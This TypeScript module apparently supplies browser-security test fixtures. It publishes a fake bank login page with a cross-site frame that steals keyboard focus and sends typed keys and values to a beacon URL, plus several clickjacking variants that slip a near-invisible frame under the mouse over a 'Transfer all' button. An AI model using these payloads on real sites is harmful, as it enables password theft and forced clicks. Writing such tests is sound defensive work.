import type { Site } from "../../site/site.ts"

/** Ways in which a cross-site frame grabs the focus from its parent page. */
export const FOCUS_THIEVES = {
  quick: "setInterval(grab, 1)",
  patient: "setInterval(grab, 5)",
  "at every message":
    "const { port1, port2 } = new MessageChannel(); port1.onmessage = () => { grab(); port2.postMessage(0) }; port2.postMessage(0)",
  "with a new document each time":
    "setInterval(() => { document.open(); document.write(field); document.close(); listen(); grab() }, 3)",
  "with a new frame each time": `setInterval(() => {
    const inner = document.body.appendChild(document.createElement("iframe"))
    inner.contentDocument.body.innerHTML = field
    inner.contentWindow.addEventListener("keydown", ({ key }) => top.postMessage("took " + key, "*"), true)
    inner.contentDocument.body.firstChild.oninput = ({ target }) => report(target.value)
    inner.contentDocument.body.firstChild.focus()
    setTimeout(() => inner.remove(), 50)
  }, 6)`,
  "by loading itself again": `grab(); onload = () => { grab(); setTimeout(() => location.reload(), 10) }`,
} as const

interface ThiefOptions {
  readonly sandbox?: boolean
  /** An event of the page that adds the frame; without one, the page comes with it. */
  readonly addedOn?: "focusin" | "keydown" | "input"
}

/** A page with a password field, and a cross-site frame that tries to get what is typed into it. */
export function publishThief(site: Site, name: string, how: string, { sandbox, addedOn }: ThiefOptions = {}): string {
  const path = `/published/thief-${name.replaceAll(" ", "-")}${sandbox ? "-sandboxed" : ""}`
  const beacon = JSON.stringify(`${site.crossSite}${path}/beacon`)
  site.publish(
    `${path}/frame`,
    `<!doctype html><body><input><script>
const field = "<input>"
const report = (what) => fetch(${beacon} + "?" + encodeURIComponent(what))
const listen = () => {
  addEventListener("keydown", ({ key }) => report("key " + key), true)
  addEventListener("beforeinput", ({ data }) => report("text " + data), true)
  addEventListener("input", ({ target }) => report("value " + target.value), true)
}
const grab = () => { const input = document.querySelector("input"); input.blur(); input.focus() }
listen()
${how}
</script>`,
  )
  site.publish(
    path,
    `<!doctype html><title>Bank</title><label>User <input id="user"></label>
<label>Password <input id="password" type="password"></label>
<label>Port <select id="port"><option>Oslo<option>Bergen</select></label><div id="note" contenteditable aria-label="Note">x</div>
<template><iframe ${sandbox ? 'sandbox="allow-scripts"' : ""} src="${site.crossSite}${path}/frame" width="200" height="60"></iframe></template>
<script>
const add = () => document.body.append(document.querySelector("template").content.cloneNode(true))
${addedOn ? `addEventListener("${addedOn}", add, { once: true })` : "add()"}
</script>`,
  )
  return path
}

/** Ways in which a frame gets under the mouse that is about to press the element below. */
export const CLICKJACKS = {
  "when the mouse comes": `addEventListener("pointermove", () => {
    frame.style.pointerEvents = "auto"
    document.getElementById("status").textContent = "Thanks " + Date.now()
  }, true)`,
  "every 17 ms": `let on = false; setInterval(() => { on = !on; frame.style.pointerEvents = on ? "auto" : "none" }, 17)`,
  "by a move": `frame.style.pointerEvents = "auto"; frame.style.left = "900px"
    let on = false; setInterval(() => { on = !on; frame.style.left = on ? "100px" : "900px" }, 11)`,
  "made when the mouse comes": `addEventListener("pointermove", () => {
    const other = frame.cloneNode()
    other.style.pointerEvents = "auto"
    document.body.append(other)
    setTimeout(() => other.remove(), 200)
  }, true)`,
} as const

/** A page with a button, and over it a cross-origin frame with a button that must not be pressed. */
export function publishClickjack(site: Site, victim: string, name: string, how: string): string {
  const path = `/published/jack-${name.replaceAll(" ", "-")}-${victim.replace(/\W+/g, "-")}`
  site.publish(
    path,
    `<!doctype html><title>Jack</title><style>#target, iframe { position: absolute; left: 100px; top: 100px; width: 300px; height: 100px; border: 0 }
iframe { opacity: 0.01; pointer-events: none } #status { position: absolute; top: 300px }</style>
<button id="target" onclick="fetch('${path}/target')">Continue</button><iframe src="${victim}"></iframe><p id="status">status</p>
<script>const frame = document.querySelector("iframe"); ${how}</script>`,
  )
  return path
}

/** The site in such a frame: a harmless one, or one that wants the click. */
export const VICTIMS = {
  "an honest site": "",
  "one that listens first": `addEventListener("pointerdown", (event) => { event.stopImmediatePropagation(); report() }, true)`,
} as const

export function publishVictim(site: Site, origin: string, name: string, script: string): { url: string; path: string } {
  const path = `/published/victim-${name.replaceAll(" ", "-")}`
  site.publish(
    path,
    `<!doctype html><body style="margin: 0"><script>const report = () => fetch("${path}/pressed")</script><script>${script}</script>
<button style="width: 300px; height: 100px" onclick="report()" onmousedown="report()">Transfer all</button>`,
  )
  return { url: origin + path, path }
}
